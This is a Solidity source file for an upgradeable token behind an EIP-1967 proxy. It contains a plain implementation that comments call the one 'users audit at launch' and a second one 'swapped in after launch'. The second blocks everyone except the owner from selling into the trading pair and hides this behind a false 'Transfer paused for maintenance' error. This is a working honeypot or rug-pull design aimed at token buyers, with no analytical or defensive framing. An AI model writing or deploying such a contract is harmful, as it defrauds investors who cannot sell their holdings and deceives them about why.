// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// EIP-1967 upgradeable proxy. The admin (kept in the standard admin slot) can point
/// it at a new implementation at any time.
contract ZooProxy {
    bytes32 private constant _IMPLEMENTATION_SLOT =
        0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant _ADMIN_SLOT =
        0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    event Upgraded(address indexed implementation);
    event AdminChanged(address previousAdmin, address newAdmin);

    constructor(address implementation, bytes memory initData) payable {
        _setImplementation(implementation);
        assembly {
            sstore(_ADMIN_SLOT, caller())
        }
        emit AdminChanged(address(0), msg.sender);
        if (initData.length > 0) {
            (bool ok, bytes memory ret) = implementation.delegatecall(initData);
            if (!ok) {
                assembly {
                    revert(add(ret, 32), mload(ret))
                }
            }
        }
    }

    function upgradeTo(address implementation) external {
        address admin;
        assembly {
            admin := sload(_ADMIN_SLOT)
        }
        require(msg.sender == admin, "Proxy: caller is not admin");
        _setImplementation(implementation);
    }

    function _setImplementation(address implementation) private {
        require(implementation.code.length > 0, "Proxy: not a contract");
        assembly {
            sstore(_IMPLEMENTATION_SLOT, implementation)
        }
        emit Upgraded(implementation);
    }

    fallback() external payable {
        _delegate();
    }

    receive() external payable {
        _delegate();
    }

    function _delegate() private {
        assembly {
            let impl := sload(_IMPLEMENTATION_SLOT)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), impl, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// Storage layout shared by every implementation behind the proxy.
abstract contract VaultTokenStorage {
    bool internal _initialized;
    address public owner;
    address public pair;
    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        _allowances[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function setPair(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual;

    function _rawTransfer(address from, address to, uint256 amount) internal {
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// The implementation users audit at launch: a plain token.
contract VaultTokenV1 is VaultTokenStorage {
    function initialize(string calldata name_, string calldata symbol_, uint256 supply_, address owner_)
        external
    {
        require(!_initialized, "initialized");
        _initialized = true;
        owner = owner_;
        name = name_;
        symbol = symbol_;
        totalSupply = supply_;
        _balances[owner_] = supply_;
        emit Transfer(address(0), owner_, supply_);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        _rawTransfer(from, to, amount);
    }
}

/// The implementation swapped in after launch: only the owner can sell into the pair.
contract VaultTokenV2 is VaultTokenStorage {
    function version() external pure returns (uint256) {
        return 2;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) {
            revert("Transfer paused for maintenance");
        }
        _rawTransfer(from, to, amount);
    }
}
